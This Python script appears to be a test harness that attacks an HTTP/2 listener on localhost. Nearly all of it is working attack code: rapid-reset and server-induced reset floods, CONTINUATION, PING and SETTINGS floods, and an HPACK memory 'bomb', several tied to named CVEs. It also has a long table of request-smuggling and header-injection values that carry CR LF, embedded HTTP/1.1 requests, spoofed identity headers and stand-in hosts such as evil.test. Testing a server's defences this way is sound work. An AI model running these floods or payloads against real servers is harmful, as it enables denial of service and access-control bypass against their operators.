"""Attacks on HTTP/2 (RFC 9113), frame by frame, against a listener that takes prior knowledge.

    python frames.py NAME PORT [COUNT]

Prints one line of JSON when the attack is over: what was sent, how connections ended, what it cost.
"""

import json
import select
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INITIAL_WINDOW_SIZE = SettingsFrame.INITIAL_WINDOW_SIZE

# No attack lasts longer, in seconds.
PATIENCE = 12


def block(path, method="GET", extra=()):
    """A field block that neither reads nor writes the dynamic table: it can be sent again and again."""
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "api.test"), *extra]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields])


def headers(stream, data, *flags):
    return HeadersFrame(stream, data, flags=["END_HEADERS", *flags]).serialize()


class Peer:
    """A connection, and what the other side said on it."""

    def __init__(self, port, settings=None):
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.setblocking(False)
        self.input = bytearray()
        self.sent = 0
        self.answers = 0
        self.resets = 0
        self.ended = None
        self.goaway = None
        self.decoder = hpack.Decoder()
        self.statuses = []
        self.pump(PREFACE + SettingsFrame(settings=settings or {}).serialize())

    def pump(self, data, reading=True, seconds=PATIENCE):
        """Sends all of `data`, or as much as the other side lets it; whether it could."""
        rest, until = memoryview(data), time.monotonic() + seconds
        while rest and not self.ended:
            left = until - time.monotonic()
            if left <= 0:
                return False
            wanted = [self.socket] if reading else []
            readable, writable, _ = select.select(wanted, [self.socket], [], left)
            try:
                if readable:
                    self.take()
                if writable and not self.ended:
                    sent = self.socket.send(rest[: 1 << 18])
                    self.sent += sent
                    rest = rest[sent:]
            except (ConnectionResetError, BrokenPipeError):
                self.ended = "reset"
        return not self.ended

    def listen(self, seconds, enough=lambda: False):
        """Reads until `enough`, the end, or for so long."""
        until = time.monotonic() + seconds
        while not self.ended and not enough() and time.monotonic() < until:
            if select.select([self.socket], [], [], 0.02)[0]:
                try:
                    self.take()
                except (ConnectionResetError, BrokenPipeError):
                    self.ended = "reset"

    def take(self):
        data = self.socket.recv(1 << 16)
        if not data:
            self.ended = "closed"
        self.input += data
        while len(self.input) >= 9:
            length = int.from_bytes(self.input[:3], "big")
            if len(self.input) < 9 + length:
                return
            kind, payload = self.input[3], bytes(self.input[9 : 9 + length])
            del self.input[: 9 + length]
            if kind == 1:
                self.answers += 1
                self.statuses.append(dict(self.decoder.decode(payload))[":status"])
            elif kind == 3:
                self.resets += 1
            elif kind == 7:
                self.goaway = struct.unpack(">I", payload[4:8])[0]

    def close(self):
        self.socket.close()

    def end(self):
        said = f"goaway {self.goaway}" if self.goaway is not None else "no goaway"
        return f"{self.ended or 'open'}, {said}"


class Report:
    def __init__(self):
        self.begun, self.cpu = time.monotonic(), time.process_time()
        self.told = {"sent": 0, "answers": 0, "resets": 0, "connections": 0, "ends": {}}

    def add(self, peer):
        self.told["sent"] += peer.sent
        self.told["answers"] += peer.answers
        self.told["resets"] += peer.resets
        self.told["connections"] += 1
        ends = self.told["ends"]
        ends[peer.end()] = ends.get(peer.end(), 0) + 1
        peer.close()

    def say(self, **more):
        self.told["seconds"] = round(time.monotonic() - self.begun, 3)
        self.told["cpu"] = round(time.process_time() - self.cpu, 3)
        print(json.dumps({**self.told, **more}))


def many(port, count, a_connection, one, seconds=0.5):
    """`one(stream)` for `count` streams, as many on a connection as `a_connection`, whatever becomes of it. Each
    connection has so many seconds to be told to go."""
    prepared = b"".join(one(2 * n + 1) for n in range(a_connection))
    report, done = Report(), 0
    while done < count and time.monotonic() - report.begun < PATIENCE:
        peer = Peer(port)
        peer.pump(prepared)
        peer.listen(seconds, lambda: peer.goaway is not None)
        report.add(peer)
        done += a_connection
    report.say(streams=done)


def rapid_reset(port, count):
    """CVE-2023-44487: each request is taken back at once."""
    data = block("/hang")
    many(port, count, 1000, lambda stream: headers(stream, data, "END_STREAM") + RstStreamFrame(stream, 8).serialize())


def rapid_reset_below(port, count):
    """The same, never as many on a connection as are told to calm down."""
    data = block("/hang")
    many(port, count, 30, lambda stream: headers(stream, data, "END_STREAM") + RstStreamFrame(stream, 8).serialize(), 0.02)


def rapid_reset_late(port, count):
    """Taken back only when it has reached the upstream, and again never too often on a connection."""
    data, report, done = block("/hang"), Report(), 0
    while done < count and time.monotonic() - report.begun < PATIENCE:
        peer = Peer(port)
        for begin in range(0, 90, 30):
            streams = [2 * (begin + n) + 1 for n in range(30)]
            peer.pump(b"".join(headers(stream, data, "END_STREAM") for stream in streams))
            peer.listen(0.02)
            peer.pump(b"".join(RstStreamFrame(stream, 8).serialize() for stream in streams))
        report.add(peer)
        done += 90
    report.say(streams=done)


def made_to_reset_by_window(port, count):
    """CVE-2025-8671: the other side is made to reset each request, so that nobody counts it as the client's."""
    data = block("/hang")
    many(port, count, 300, lambda stream: headers(stream, data, "END_STREAM") + WindowUpdateFrame(stream, 0).serialize_zero())


def made_to_reset_by_overflow(port, count):
    data = block("/hang")
    more = 2**31 - 1
    many(port, count, 300, lambda stream: headers(stream, data, "END_STREAM") + WindowUpdateFrame(stream, more).serialize())


def made_to_reset_by_data(port, count):
    data = block("/hang")
    many(port, count, 300, lambda stream: headers(stream, data, "END_STREAM") + DataFrame(stream, b"x").serialize())


def made_to_reset_by_length(port, count):
    data = block("/hang", "POST", [("content-length", "1")])
    many(port, count, 300, lambda stream: headers(stream, data) + DataFrame(stream, b"xy").serialize())


def made_to_reset_by_priority(port, count):
    data = block("/hang", "POST")
    many(port, count, 300, lambda stream: headers(stream, data) + PriorityFrame(stream, depends_on=stream).serialize())


def made_to_reset_late(port, count):
    """Each has reached the upstream before; 30 a connection."""
    data, report, done = block("/hang", "POST", [("content-length", "1")]), Report(), 0
    while done < count and time.monotonic() - report.begun < PATIENCE:
        peer, streams = Peer(port), [2 * n + 1 for n in range(30)]
        peer.pump(b"".join(headers(stream, data) for stream in streams))
        peer.listen(0.02)
        peer.pump(b"".join(DataFrame(stream, b"xy").serialize() for stream in streams))
        peer.listen(0.5, lambda: peer.resets >= 30 or peer.goaway is not None)
        report.add(peer)
        done += 30
    report.say(streams=done)


def serialize_zero(self):
    """A WINDOW_UPDATE of nothing, which the library itself refuses to make."""
    return b"\x00\x00\x04\x08\x00" + struct.pack(">II", self.stream_id, 0)


WindowUpdateFrame.serialize_zero = serialize_zero


def flood(port, first, frame, count, reading=True):
    """One connection: `first`, then the same frame again and again."""
    piece, report = frame * 1000, Report()
    peer = Peer(port)
    peer.pump(first)
    frames = 0
    while frames < count and time.monotonic() - report.begun < PATIENCE and peer.pump(piece, reading):
        frames += 1000
    peer.listen(1, lambda: peer.goaway is not None)
    report.add(peer)
    report.say(frames=frames)


def continuation(port, count):
    """CVE-2024-27316: a field block without end."""
    first = HeadersFrame(1, block("/health"), flags=["END_STREAM"]).serialize()
    flood(port, first, ContinuationFrame(1, b"\x00\x01a\x01b").serialize(), count)


def empty_continuation(port, count):
    first = HeadersFrame(1, block("/health"), flags=["END_STREAM"]).serialize()
    flood(port, first, ContinuationFrame(1, b"").serialize(), count)


def empty_data(port, count):
    """RUSTSEC-2026-0258: frames of a body that weigh nothing and are nowhere counted."""
    flood(port, headers(1, block("/hang", "POST")), DataFrame(1, b"").serialize(), count)


def settings(port, count):
    flood(port, b"", SettingsFrame(settings={INITIAL_WINDOW_SIZE: 1000}).serialize(), count)


def settings_unread(port, count):
    flood(port, b"", SettingsFrame(settings={INITIAL_WINDOW_SIZE: 1000}).serialize(), count, reading=False)


def ping(port, count):
    flood(port, b"", PingFrame(0, b"12345678").serialize(), count)


def ping_unread(port, count):
    flood(port, b"", PingFrame(0, b"12345678").serialize(), count, reading=False)


def priority(port, count):
    flood(port, b"", PriorityFrame(1, depends_on=3).serialize(), count)


def window_update(port, count):
    flood(port, b"", WindowUpdateFrame(0, window_increment=1).serialize(), count)


def bomb(port, connections, streams, value, references):
    """CVE-2026-49975: a field said once and meant often, and an answer that never gets a window to leave by."""
    seed = hpack.Encoder().encode([("x", value)], huffman=False)
    first, again = block("/large") + seed, block("/large") + b"\xbe" * references
    ids = [2 * n + 1 for n in range(streams)]
    attack = headers(1, first, "END_STREAM") + b"".join(headers(stream, again, "END_STREAM") for stream in ids[1:])
    drip = b"".join(WindowUpdateFrame(stream, window_increment=1).serialize() for stream in ids)
    report, peers = Report(), []
    for _ in range(connections):
        peer = Peer(port, {INITIAL_WINDOW_SIZE: 0})
        peer.pump(attack)
        # One after another: it is memory that this is after, and not a thousand requests at one moment.
        peer.listen(0.05)
        peers.append(peer)
    while time.monotonic() - report.begun < PATIENCE * 2 / 3:
        for peer in peers:
            peer.pump(drip)
            peer.listen(0)
            if select.select([peer.socket], [], [], 0)[0] and not peer.ended:
                peer.listen(0.01)
        time.sleep(0.25)
    held = sum(peer.ended is None and peer.goaway is None for peer in peers)
    for peer in peers:
        report.add(peer)
    report.say(held=held)


def honest_requests(port, connections):
    """No bomb: as many requests as may be open at once, whose answers get no window either."""
    bomb(port, connections, 32, "", 0)


def bomb_of_the_advisory(port, connections):
    bomb(port, connections, 100, "", 4000)


def bomb_of_large_fields(port, connections):
    bomb(port, connections, 32, "v" * 4000, 4000)


def bomb_of_small_fields(port, connections):
    """Within the decoded list's bound: it is the number of fields that refuses."""
    bomb(port, connections, 32, "", 440)


def bomb_that_fits(port, connections):
    """Within every bound: as many and as large fields as are let through, and forwarded."""
    bomb(port, connections, 32, "v" * 130, 85)


SMUGGLED = "GET /admin/smuggled HTTP/1.1\r\nHost: api.test\r\n\r\n"
GET = [(":method", "GET"), (":scheme", "http"), (":path", "/public/x"), (":authority", "api.test")]
POST = [(":method", "POST"), (":scheme", "http"), (":path", "/public/x"), (":authority", "api.test")]


def instead(name, value):
    return [(name, value) if name == one else (one, other) for one, other in GET]


# What HTTP/2 can say and HTTP/1.1 must not hear: fields, and a body or none.
INJECTIONS = {
    "CR LF in a value": (GET + [("x", "a\r\n\r\n" + SMUGGLED)], None),
    "LF in a value": (GET + [("x", "a\n\n" + SMUGGLED)], None),
    "CR in a value": (GET + [("x", "a\rb")], None),
    "NUL in a value": (GET + [("x", "a\0b")], None),
    "CR LF in a name": (GET + [("x\r\nx-identity", "admin")], None),
    "a colon in a name": (GET + [("x-identity: admin\r\nx", "a")], None),
    "a space in a name": (GET + [("x identity", "admin")], None),
    "an upper case name": (GET + [("X-Identity", "admin")], None),
    "an empty name": (GET + [("", "a")], None),
    "a space in the path": (instead(":path", "/public/x HTTP/1.1\r\nX: y"), None),
    "one space in the path": (instead(":path", "/public/x /admin"), None),
    "CR LF in the path": (instead(":path", "/public/x\r\n\r\n" + SMUGGLED), None),
    "a tab in the path": (instead(":path", "/public/x\tHTTP/1.1"), None),
    "a fragment in the path": (instead(":path", "/public/x#/admin"), None),
    "dots in the path": (instead(":path", "/public/../admin/x"), None),
    "an absolute path": (instead(":path", "http://api.test/admin/x"), None),
    "an authority's path": (instead(":path", "//admin/x"), None),
    "no slash": (instead(":path", "admin/x"), None),
    "an empty path": (instead(":path", ""), None),
    "an asterisk": (instead(":path", "*"), None),
    "two paths": (GET[:3] + [(":path", "/admin/x")] + GET[3:], None),
    "no path": (GET[:2] + GET[3:], None),
    "two methods": (GET[:1] + [(":method", "POST")] + GET[1:], None),
    "no method": (GET[1:], None),
    "CR LF in the method": (instead(":method", "GET /admin/x HTTP/1.1\r\nHost: a\r\n\r\nGET"), None),
    "a space in the method": (instead(":method", "GET /admin/x"), None),
    "CONNECT": ([(":method", "CONNECT"), (":authority", "db.internal:5432")], None),
    "two schemes": (GET[:2] + [(":scheme", "https")] + GET[2:], None),
    "no scheme": (GET[:1] + GET[2:], None),
    "CR LF in the scheme": (instead(":scheme", "http://a/admin HTTP/1.1\r\nx: "), None),
    "a path in the scheme": (instead(":scheme", "http://evil.test/admin?"), None),
    "two authorities": (GET + [(":authority", "evil.test")], None),
    "a path in the authority": (instead(":authority", "api.test/admin"), None),
    "userinfo in the authority": (instead(":authority", "admin@api.test"), None),
    "CR LF in the authority": (instead(":authority", "api.test\r\nX-Identity: admin"), None),
    "another host": (GET + [("host", "evil.test")], None),
    "two hosts": (GET[:3] + [("host", "api.test"), ("host", "evil.test")], None),
    "a pseudo-field after a field": (GET[:2] + [("x", "a")] + GET[2:], None),
    "an unknown pseudo-field": (GET + [(":admin", "yes")], None),
    "a pseudo-field of answers": (GET + [(":status", "200")], None),
    "chunked": (POST + [("transfer-encoding", "chunked")], b"0\r\n\r\n" + SMUGGLED.encode()),
    "Transfer-Encoding misspelt": (POST + [("transfer_encoding", "chunked")], b"0\r\n\r\n" + SMUGGLED.encode()),
    "a length of nothing": (POST + [("content-length", "0")], SMUGGLED.encode()),
    "a length too short": (POST + [("content-length", "5")], b"hello" + SMUGGLED.encode()),
    "a length too long": (POST + [("content-length", "5000")], b"hello"),
    "a length and no body": (POST + [("content-length", "50")], None),
    "two lengths": (POST + [("content-length", "5"), ("content-length", "0")], b"hello"),
    "a list of lengths": (POST + [("content-length", "5, 5")], b"hello"),
    "a length with a sign": (POST + [("content-length", "+5")], b"hello"),
    "another spelling of a length": (POST + [("content_length", "0")], b"hello" + SMUGGLED.encode()),
    "Connection": (GET + [("connection", "x-identity")], None),
    "Keep-Alive": (GET + [("keep-alive", "1")], None),
    "Proxy-Connection": (GET + [("proxy-connection", "close")], None),
    "Upgrade": (GET + [("upgrade", "websocket"), ("connection", "upgrade")], None),
    "Upgrade alone": (GET + [("upgrade", "h2c")], None),
    "TE": (GET + [("te", "gzip")], None),
    "an identity header": (GET + [("x-identity", "admin")], None),
    "an alias of one": (GET + [("x_identity", "admin")], None),
    "two Authorization lines": (GET + [("authorization", "Bearer a"), ("authorization", "Bearer b")], None),
    "an identity trailer": (POST, b"hello", [("x-identity", "admin")]),
    "a length trailer": (POST, b"hello", [("content-length", "0")]),
    "a pseudo-field trailer": (POST, b"hello", [(":path", "/admin/x")]),
    "CR LF in a trailer": (POST, b"hello", [("x", "a\r\n\r\n" + SMUGGLED)]),
    "an obsolete fold": (GET + [("x", "a\r\n b")], None),
    "white space at the edges": (GET + [("x", " a ")], None),
    "octets beyond ASCII": (GET + [("x", b"\xff\xfe")], None),
}


def injections(port, _):
    """Each on a connection of its own; then one good request on it, if it lives."""
    report, told = Report(), {}
    for index, (name, (fields, body, *trailers)) in enumerate(INJECTIONS.items()):
        peer, encoder = Peer(port), hpack.Encoder()
        fields = [(field, f"{value}?{index}" if value == "/public/x" else value) for field, value in fields]
        end = [] if body is not None else ["END_STREAM"]
        peer.pump(headers(1, encoder.encode(fields), *end))
        if body is not None:
            peer.pump(DataFrame(1, body, flags=[] if trailers else ["END_STREAM"]).serialize())
        for trailer in trailers:
            peer.pump(headers(1, encoder.encode(trailer), "END_STREAM"))
        peer.listen(2, lambda: peer.answers or peer.resets or peer.goaway is not None)
        told[name] = peer.statuses[-1] if peer.answers else "reset" if peer.resets else peer.end()
        report.add(peer)
    report.say(told=told, names=list(INJECTIONS))


def orderly(port, count):
    """A client that keeps to the rules, of the h2 library: `count` requests, each answered."""
    client = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
    client.initiate_connection()
    connection = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)
    statuses = {}
    for n in range(count):
        stream = client.get_next_available_stream_id()
        client.send_headers(stream, GET if n % 2 else POST, end_stream=n % 2 == 1)
        if n % 2 == 0:
            client.send_data(stream, b"hello", end_stream=True)
        connection.sendall(client.data_to_send())
        over = False
        while not over:
            for event in client.receive_data(connection.recv(1 << 16)):
                if isinstance(event, h2.events.ResponseReceived):
                    status = dict(event.headers)[":status"]
                    statuses[status] = statuses.get(status, 0) + 1
                over = over or isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset))
            connection.sendall(client.data_to_send())
    print(json.dumps({"statuses": statuses}))


if __name__ == "__main__":
    name, port, *count = sys.argv[1:]
    globals()[name](int(port), int(count[0]) if count else 1)
